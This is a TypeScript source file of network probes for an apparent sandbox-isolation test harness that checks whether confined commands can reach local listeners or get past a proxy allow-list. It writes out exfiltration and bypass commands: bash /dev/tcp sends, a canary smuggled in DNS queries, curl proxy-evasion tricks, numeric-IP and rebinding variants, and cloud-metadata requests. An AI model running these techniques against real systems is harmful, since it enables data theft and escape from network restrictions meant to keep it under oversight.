// Reaching anybody: this machine's own servers stand for all, since a test has no others.
import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import type { Probe } from '../probe.ts';
import type { Listener, World } from '../world.ts';

const noAddress = ({ lan }: World): string | undefined => (lan === undefined ? 'this machine has no address but its own' : undefined);

/** `received` of the listener that the setup made. */
function reach(
  id: string,
  what: string,
  where: (world: World) => string | undefined,
  attack: (world: World, host: string, port: number) => string,
  udp = false,
  more: Partial<Probe> = {},
): Probe {
  const known = new WeakMap<World, Listener>();
  return {
    id: `reach-${id}`,
    area: 'network',
    what,
    setup: async (world) => {
      const host = where(world);
      if (host !== undefined) known.set(world, await (udp ? world.udp(host) : world.tcp(host)));
    },
    attack: (world) => attack(world, where(world) ?? '', known.get(world)?.port ?? 0),
    worked: async (world) => {
      const heard = (): boolean => (known.get(world)?.received.length ?? 0) > 0;
      // What was sent may still be on its way when the command has ended.
      for (let count = 0; count < 20 && !heard(); count++) await setTimeout(10);
      return heard();
    },
    noControl: (world) => (where(world) === undefined ? noAddress(world) : undefined),
    ...more,
  };
}
const tcp = ({ attack, canary }: World, host: string, port: number): string => attack('tell', 'tcp', host, port, canary);

const echoes = (): number => {
  const [names = '', values = ''] = readFileSync('/proc/net/snmp', 'utf8')
    .split('\n')
    .filter((line) => line.startsWith('Icmp:'));
  return Number(values.split(' ')[names.split(' ').indexOf('InEchos')]);
};
let echoesBefore = 0;

/** A web server of the host, and what it was asked. */
async function web(
  world: World,
  host = '127.0.0.1',
  answer: (request: http.IncomingMessage, response: http.ServerResponse) => void = (_, response) => void response.end(world.canary),
): Promise<{ port: number; asked: string[] }> {
  const asked: string[] = [];
  const server = http.createServer((request, response) => {
    asked.push(`${request.method} ${request.headers.host ?? ''} ${request.url}`);
    answer(request, response);
  });
  server.on('connect', (request, socket) => {
    asked.push(`CONNECT ${request.url}`);
    socket.end();
  });
  await new Promise<void>((resolve) => void server.listen(0, host, () => resolve()));
  world.later(() => {
    server.closeAllConnections();
    server.close();
  });
  return { port: (server.address() as AddressInfo).port, asked };
}

/** Through the proxy of an allow-list, if there is one; a client that knows none goes straight on. */
function throughProxy(
  id: string,
  what: string,
  hosts: (world: World, port: number) => string[],
  command: (world: World, port: number) => string,
  more: { host?: (world: World) => string; noControl?: Probe['noControl']; redirect?: boolean } = {},
): Probe {
  const ports = new WeakMap<World, number>();
  const asked = new WeakMap<World, string[]>();
  return {
    id: `proxy-${id}`,
    area: 'network',
    what,
    hosts: (world) => hosts(world, ports.get(world) ?? 0),
    setup: async (world) => {
      const made = await web(world, more.host?.(world));
      ports.set(world, made.port);
      asked.set(world, made.asked);
    },
    attack: (world) => command(world, ports.get(world) ?? 0),
    worked: (world) => (asked.get(world)?.length ?? 0) > 0,
    ...(more.noControl ? { noControl: more.noControl } : {}),
  };
}
/** Names by which this machine knows itself besides localhost. */
const ownNames = readFileSync('/etc/hosts', 'utf8')
  .split('\n')
  .flatMap((line) => (line.startsWith('127.') ? line.replace(/#.*/, '').trim().split(/\s+/).slice(1) : []))
  .filter((name) => name !== 'localhost');
const noNames = (): string => 'names are looked up by the proxy alone; without it there is nothing to get round';

function redirected(): Probe {
  const known = new WeakMap<World, { inner: Awaited<ReturnType<typeof web>>; outer: Awaited<ReturnType<typeof web>> }>();
  return {
    id: 'proxy-redirect',
    area: 'network',
    what: 'Be sent on from a host on the list to one that is not',
    hosts: (world) => [`127.0.0.1:${known.get(world)?.outer.port}`],
    setup: async (world) => {
      const inner = await web(world);
      const outer = await web(world, '127.0.0.1', (_, response) => {
        response.writeHead(302, { location: `http://127.0.0.1:${inner.port}/` });
        response.end();
      });
      known.set(world, { inner, outer });
    },
    attack: (world) => `curl -s -m 10 --noproxy '' -L http://127.0.0.1:${known.get(world)?.outer.port}/`,
    worked: (world) => {
      const { inner, outer } = known.get(world) ?? {};
      // The way to the list's own host must be open, or nothing was tried.
      if (outer?.asked.length === 0) throw new Error('The host on the list was not reached');
      return (inner?.asked.length ?? 0) > 0;
    },
  };
}

export const network: readonly Probe[] = [
  reach('loopback', "Connect to a server on the machine's 127.0.0.1", () => '127.0.0.1', tcp),
  reach('loopback-6', '... on ::1', () => '::1', tcp, false, {
    noControl: () => (readFileSync('/proc/net/if_inet6', 'utf8').includes(' lo') ? undefined : 'this machine has no IPv6'),
  }),
  reach(
    'loopback-any',
    '... by 0.0.0.0',
    () => '127.0.0.1',
    (world, _, port) => tcp(world, '0.0.0.0', port),
  ),
  reach('loopback-other', '... by another address of 127.0.0.0/8', () => '127.0.0.2', tcp),
  reach('address', "Connect to the machine's address in the network", ({ lan }) => lan, tcp),
  reach(
    'udp',
    'Send a datagram',
    ({ lan }) => lan ?? '127.0.0.1',
    ({ attack, canary }, host, port) => attack('tell', 'udp', host, port, canary),
    true,
  ),
  reach(
    'dns',
    'Carry a secret out in a question to a name server',
    ({ lan }) => lan ?? '127.0.0.1',
    ({ canary }, host, port) =>
      `python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + bytes([19]) + b"${canary}" + b"\\0\\0\\x01\\0\\x01", ("${host}", ${port}))'`,
    true,
  ),
  reach(
    'bash',
    "With bash's /dev/tcp",
    ({ lan }) => lan ?? '127.0.0.1',
    ({ canary }, host, port) => `bash -c 'echo ${canary} > /dev/tcp/${host}/${port}'`,
  ),
  reach(
    'curl',
    'With a proxy of its own choosing',
    () => '127.0.0.1',
    (_, host, port) => `curl -s -m 3 -x http://${host}:${port} http://example.org/; curl -s -m 3 --noproxy '*' http://${host}:${port}/`,
  ),
  {
    id: 'reach-icmp',
    area: 'network',
    what: 'Send an echo request with a secret in it',
    setup: () => {
      echoesBefore = echoes();
    },
    attack: (world) => world.attack('tell', 'icmp', world.lan ?? '127.0.0.1', 0, world.canary),
    worked: () => echoes() > echoesBefore,
    noControl: () => (process.getuid?.() === 0 ? undefined : 'it takes root, or a group that may'),
  },
  {
    id: 'reach-interface',
    area: 'network',
    what: 'Make a network interface that leads out',
    attack: ({ tag }) =>
      `for type in dummy ifb bridge; do ip link add ${tag.slice(4, 12)} type $type && break; done; sleep 0.3; ip link del ${tag.slice(4, 12)}`,
    during: ({ tag }) => readFileSync('/proc/net/dev', 'utf8').includes(tag.slice(4, 12)),
    worked: (_, { during }) => during,
    noControl: () => (process.getuid?.() === 0 ? undefined : 'it takes root'),
  },
  throughProxy(
    'other-host',
    'Ask for a host that is not on the list',
    () => ['registry.example.org'],
    (_, port) => `curl -s -m 3 --noproxy '' http://127.0.0.1:${port}/; curl -s -m 3 --noproxy '' http://localhost:${port}/`,
  ),
  throughProxy(
    'not-by-proxy',
    'Go past the proxy to a host on the list',
    () => ['registry.example.org', 'localhost'],
    (_, port) => `curl -s -m 3 --noproxy '*' http://localhost:${port}/`,
  ),
  throughProxy(
    'literal',
    'Ask for an address as a number, as hex, as IPv6',
    () => ['*.example.org'],
    (_, port) =>
      [`127.1:${port}`, `2130706433:${port}`, `0x7f000001:${port}`, `[::ffff:127.0.0.1]:${port}`, `0:${port}`]
        .map((host) => `curl -gs -m 3 --noproxy '' http://${host}/; curl -gs -m 3 --noproxy '' -p http://${host}/`)
        .join('; '),
  ),
  throughProxy(
    'private-by-name',
    'Have a name on the list lead to this machine (rebinding)',
    () => ['*.localhost', ...ownNames],
    (_, port) =>
      ['x.localhost', ...ownNames]
        .map((name) => `curl -s -m 3 --noproxy '' http://${name}:${port}/; curl -s -m 3 --noproxy '' -p http://${name}:${port}/`)
        .join('; '),
    { host: () => '127.0.0.1', noControl: () => (ownNames.length > 0 ? undefined : 'this machine has no other name for itself') },
  ),
  throughProxy(
    'connect-port',
    'CONNECT to a port that is not on the list',
    () => ['127.0.0.1:443'],
    (_, port) => `curl -s -m 3 --noproxy '' -p http://127.0.0.1:${port}/; curl -s -m 3 --noproxy '' http://127.0.0.1:${port}/`,
  ),
  throughProxy(
    'host-header',
    'Name a host on the list in the Host header and ask for another',
    () => ['registry.example.org'],
    (_, port) => `curl -s -m 3 --noproxy '' -H 'Host: registry.example.org' http://127.0.0.1:${port}/`,
  ),
  throughProxy(
    'user-part',
    'Name a host on the list before an @',
    () => ['registry.example.org'],
    (_, port) =>
      `curl -s -m 3 --noproxy '' 'http://registry.example.org@127.0.0.1:${port}/'; curl -s -m 3 --noproxy '' 'http://registry.example.org%00@127.0.0.1:${port}/'`,
  ),
  throughProxy(
    'scheme',
    'Ask the proxy for a file, or for ftp',
    () => ['127.0.0.1'],
    (_, port) => `printf 'GET ftp://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n' | python3 -c '
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlparse(os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or "http://127.0.0.1:1")
one = socket.create_connection((proxy.hostname, proxy.port), 3)
one.sendall(sys.stdin.buffer.read())
print(one.recv(400))'`,
    { noControl: noNames },
  ),
  throughProxy(
    'metadata',
    "Ask for the cloud's metadata address by a name or a number",
    () => ['169.254.169.254.nip.example.org'],
    (_, port) =>
      `curl -s -m 2 --noproxy '' http://169.254.169.254/; curl -s -m 2 --noproxy '' http://[::ffff:169.254.169.254]/; curl -s -m 2 --noproxy '' http://127.0.0.1:${port}/`,
  ),
  redirected(),
];
